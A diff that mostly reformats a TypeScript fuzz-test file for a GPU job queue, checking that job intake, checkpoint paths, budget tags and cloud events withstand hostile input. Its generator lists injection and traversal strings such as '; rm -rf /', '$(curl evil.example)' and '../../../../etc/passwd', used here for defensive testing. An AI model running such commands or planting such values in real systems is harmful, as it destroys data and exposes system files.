@@ -26,7 +26,21 @@ const SEED = Number(process.env.FC_SEED ?? 20_261_130);
 const RUNS = { numRuns: 300, seed: SEED };
 const hostileString = fc.oneof(
   fc.string(),
-  fc.constantFrom('; rm -rf /', '$(curl evil.example)', '`id`', '../../../../etc/passwd', '..', '/', '\u0000', 'a'.repeat(10_000), '💥', '\\\\server\\share', '%2e%2e%2f', 'nlp.other', 'team-b'),
+  fc.constantFrom(
+    '; rm -rf /',
+    '$(curl evil.example)',
+    '`id`',
+    '../../../../etc/passwd',
+    '..',
+    '/',
+    '\u0000',
+    'a'.repeat(10_000),
+    '💥',
+    '\\\\server\\share',
+    '%2e%2e%2f',
+    'nlp.other',
+    'team-b',
+  ),
 );
 const clock = { nowMs: () => T0 };
 
@@ -34,7 +48,19 @@ const hostileSpec = fc.record(
   {
     image: hostileString,
     command: fc.oneof(fc.array(hostileString, { maxLength: 5 }), hostileString),
-    gpu: fc.oneof(fc.record({ kind: fc.constantFrom('whole', 'fraction', 'mig', 'tpu'), count: fc.oneof(fc.integer(), fc.double(), hostileString), profile: hostileString, milliGpu: fc.integer(), memoryMiB: fc.integer() }, { requiredKeys: ['kind'] }), fc.anything()),
+    gpu: fc.oneof(
+      fc.record(
+        {
+          kind: fc.constantFrom('whole', 'fraction', 'mig', 'tpu'),
+          count: fc.oneof(fc.integer(), fc.double(), hostileString),
+          profile: hostileString,
+          milliGpu: fc.integer(),
+          memoryMiB: fc.integer(),
+        },
+        { requiredKeys: ['kind'] },
+      ),
+      fc.anything(),
+    ),
     env: fc.dictionary(hostileString, hostileString, { maxKeys: 4 }),
     labels: fc.dictionary(hostileString, hostileString, { maxKeys: 4 }),
     checkpoint: fc.record({ intervalSec: fc.oneof(fc.integer(), fc.constant(Number.NaN)), signal: hostileString }, { requiredKeys: [] }),
@@ -47,30 +73,38 @@ const hostileSpec = fc.record(
 );
 
 describe('intake under hostile job specs', () => {
-  it('never throws; accepts only what the schema allows, rejects the rest with reasons, and keeps the queue\'s team', async () => {
+  it("never throws; accepts only what the schema allows, rejects the rest with reasons, and keeps the queue's team", async () => {
     await fc.assert(
-      fc.asyncProperty(fc.oneof(hostileSpec.map((s) => JSON.stringify(s)), fc.json(), fc.string()), fc.string({ minLength: 1, maxLength: 128 }), async (body, token) => {
-        const jobs = new MemoryJobStore();
-        const out = await intake({ jobs, clock }, { team: 'nlp', body, token });
-        expect(['accepted', 'rejected', 'duplicate']).toContain(out.outcome);
-        const stored = [...jobs.all()];
-        expect(stored).toHaveLength(1);
-        const job = stored[0]!;
-        // The team is the queue's, whatever the body says; the id cannot name another team.
-        expect(job.team).toBe('nlp');
-        expect(job.id.startsWith('nlp.')).toBe(true);
-        expect(job.id.slice(4)).toMatch(/^[A-Za-z0-9_~-]+$/);
-        if (job.state === 'rejected') {
-          expect(job.rejection!.errors.length).toBeGreaterThan(0);
-          // Each reason names where (a field path, or "(body)"/"(spec)") and what was wrong.
-          for (const e of job.rejection!.errors) expect(e).toMatch(/: \S/);
-        } else {
-          // An accepted command is an argv array of strings: nothing for a shell to parse.
-          expect(Array.isArray(job.spec.command)).toBe(true);
-          for (const a of job.spec.command) expect(a.includes('\u0000')).toBe(false);
-          expect(job.spec).not.toHaveProperty('team');
-        }
-      }),
+      fc.asyncProperty(
+        fc.oneof(
+          hostileSpec.map((s) => JSON.stringify(s)),
+          fc.json(),
+          fc.string(),
+        ),
+        fc.string({ minLength: 1, maxLength: 128 }),
+        async (body, token) => {
+          const jobs = new MemoryJobStore();
+          const out = await intake({ jobs, clock }, { team: 'nlp', body, token });
+          expect(['accepted', 'rejected', 'duplicate']).toContain(out.outcome);
+          const stored = [...jobs.all()];
+          expect(stored).toHaveLength(1);
+          const job = stored[0]!;
+          // The team is the queue's, whatever the body says; the id cannot name another team.
+          expect(job.team).toBe('nlp');
+          expect(job.id.startsWith('nlp.')).toBe(true);
+          expect(job.id.slice(4)).toMatch(/^[A-Za-z0-9_~-]+$/);
+          if (job.state === 'rejected') {
+            expect(job.rejection!.errors.length).toBeGreaterThan(0);
+            // Each reason names where (a field path, or "(body)"/"(spec)") and what was wrong.
+            for (const e of job.rejection!.errors) expect(e).toMatch(/: \S/);
+          } else {
+            // An accepted command is an argv array of strings: nothing for a shell to parse.
+            expect(Array.isArray(job.spec.command)).toBe(true);
+            for (const a of job.spec.command) expect(a.includes('\u0000')).toBe(false);
+            expect(job.spec).not.toHaveProperty('team');
+          }
+        },
+      ),
       RUNS,
     );
   });
@@ -94,46 +128,57 @@ describe('intake under hostile job specs', () => {
     const root = mkdtempSync(join(tmpdir(), 'ckpt-fuzz-'));
     mkdirSync(join(root, 'ok'));
     await fc.assert(
-      fc.asyncProperty(fc.oneof(hostileString, fc.constantFrom('ok', '../', '../../etc', '/etc', 'ok/../..', `ok${sep}..${sep}..`)), async (path) => {
-        writeFileSync(join(root, 'checkpoint.json'), JSON.stringify({ path, progressSec: 10 }));
-        const m = await readMarker(root);
-        if (m?.ok) {
-          const folder = resolve(root, m.marker.path);
-          expect(folder.startsWith(resolve(root) + sep)).toBe(true);
-        } else expect(m?.problem ?? '').toMatch(/checkpoint/);
-      }),
+      fc.asyncProperty(
+        fc.oneof(hostileString, fc.constantFrom('ok', '../', '../../etc', '/etc', 'ok/../..', `ok${sep}..${sep}..`)),
+        async (path) => {
+          writeFileSync(join(root, 'checkpoint.json'), JSON.stringify({ path, progressSec: 10 }));
+          const m = await readMarker(root);
+          if (m?.ok) {
+            const folder = resolve(root, m.marker.path);
+            expect(folder.startsWith(resolve(root) + sep)).toBe(true);
+          } else expect(m?.problem ?? '').toMatch(/checkpoint/);
+        },
+      ),
       { numRuns: 200, seed: SEED },
     );
   });
 });
 
 describe('budget tags under hostile values', () => {
-  const good = { [BUDGET_TAGS.amount]: '2500', [BUDGET_TAGS.period]: 'monthly', [BUDGET_TAGS.action]: 'hold', [BUDGET_TAGS.alertAt]: '80,100' };
+  const good = {
+    [BUDGET_TAGS.amount]: '2500',
+    [BUDGET_TAGS.period]: 'monthly',
+    [BUDGET_TAGS.action]: 'hold',
+    [BUDGET_TAGS.alertAt]: '80,100',
+  };
   it('never throws, and a bad tag never lifts a budget: it keeps the last valid budget (or holds) and says what is wrong', () => {
     const previous = teamFromTags('nlp', good);
     expect(previous.budget).toBeDefined();
     fc.assert(
-      fc.property(fc.dictionary(fc.oneof(fc.constantFrom(...Object.values(BUDGET_TAGS)), hostileString), hostileString, { maxKeys: 6 }), (tags) => {
-        const t = teamFromTags('nlp', tags, previous);
-        const fresh = teamFromTags('nlp', tags);
-        const amountBad = fresh.tagProblems.some((p) => p.includes(BUDGET_TAGS.amount));
-        if (amountBad) {
-          // A bad or missing amount: the last valid amount stays; with none, the team holds.
-          expect(t.budget?.amountMicroUsd).toBe(previous.budget!.amountMicroUsd);
-          expect(fresh.budget).toBeUndefined();
-          expect(t.tagProblems.length).toBeGreaterThan(0);
-        } else if (t.budget) {
-          // A good amount is the tag's own value, never anything larger.
-          expect(t.budget.amountMicroUsd).toBe(fresh.budget?.amountMicroUsd ?? t.budget.amountMicroUsd);
-        }
-        const actionBad = fresh.tagProblems.some((p) => p.includes(BUDGET_TAGS.action));
-        if (actionBad) expect(t.budget?.action).toBe(previous.budget!.action);
-        if (t.budget) {
-          expect(Number.isSafeInteger(t.budget.amountMicroUsd)).toBe(true);
-          expect(t.budget.amountMicroUsd).toBeGreaterThanOrEqual(0);
-        }
-        for (const p of t.tagProblems) expect(p).toMatch(/gpu-fleet:|budget|tag/);
-      }),
+      fc.property(
+        fc.dictionary(fc.oneof(fc.constantFrom(...Object.values(BUDGET_TAGS)), hostileString), hostileString, { maxKeys: 6 }),
+        (tags) => {
+          const t = teamFromTags('nlp', tags, previous);
+          const fresh = teamFromTags('nlp', tags);
+          const amountBad = fresh.tagProblems.some((p) => p.includes(BUDGET_TAGS.amount));
+          if (amountBad) {
+            // A bad or missing amount: the last valid amount stays; with none, the team holds.
+            expect(t.budget?.amountMicroUsd).toBe(previous.budget!.amountMicroUsd);
+            expect(fresh.budget).toBeUndefined();
+            expect(t.tagProblems.length).toBeGreaterThan(0);
+          } else if (t.budget) {
+            // A good amount is the tag's own value, never anything larger.
+            expect(t.budget.amountMicroUsd).toBe(fresh.budget?.amountMicroUsd ?? t.budget.amountMicroUsd);
+          }
+          const actionBad = fresh.tagProblems.some((p) => p.includes(BUDGET_TAGS.action));
+          if (actionBad) expect(t.budget?.action).toBe(previous.budget!.action);
+          if (t.budget) {
+            expect(Number.isSafeInteger(t.budget.amountMicroUsd)).toBe(true);
+            expect(t.budget.amountMicroUsd).toBeGreaterThanOrEqual(0);
+          }
+          for (const p of t.tagProblems) expect(p).toMatch(/gpu-fleet:|budget|tag/);
+        },
+      ),
       { numRuns: 500, seed: SEED },
     );
   });
@@ -145,12 +190,37 @@ describe('cloud events under hostile values', () => {
     {
       version: fc.constant('0'),
       id: hostileString,
-      'detail-type': fc.constantFrom('EC2 Spot Instance Interruption Warning', 'EC2 Instance Rebalance Recommendation', 'EC2 Instance State-change Notification', 'EC2 Instance-terminate Lifecycle Action', 'AWS Health Event', 'Scheduled Event', 'Something Else'),
+      'detail-type': fc.constantFrom(
+        'EC2 Spot Instance Interruption Warning',
+        'EC2 Instance Rebalance Recommendation',
+        'EC2 Instance State-change Notification',
+        'EC2 Instance-terminate Lifecycle Action',
+        'AWS Health Event',
+        'Scheduled Event',
+        'Something Else',
+      ),
       source: fc.constantFrom('aws.ec2', 'aws.autoscaling', 'aws.health', 'aws.events', 'evil'),
-      time: fc.oneof(hostileString, fc.date({ noInvalidDate: true }).map((d) => d.toISOString())),
+      time: fc.oneof(
+        hostileString,
+        fc.date({ noInvalidDate: true }).map((d) => d.toISOString()),
+      ),
       region: hostileString,
       resources: fc.array(hostileString, { maxLength: 3 }),
-      detail: fc.oneof(fc.record({ 'instance-id': hostileString, 'instance-action': hostileString, state: hostileString, EC2InstanceId: hostileString, LifecycleTransition: hostileString, AutoScalingGroupName: hostileString, LifecycleHookName: hostileString }, { requiredKeys: [] }), fc.anything()),
+      detail: fc.oneof(
+        fc.record(
+          {
+            'instance-id': hostileString,
+            'instance-action': hostileString,
+            state: hostileString,
+            EC2InstanceId: hostileString,
+            LifecycleTransition: hostileString,
+            AutoScalingGroupName: hostileString,
+            LifecycleHookName: hostileString,
+          },
+          { requiredKeys: [] },
+        ),
+        fc.anything(),
+      ),
     },
     { requiredKeys: [] },
   );
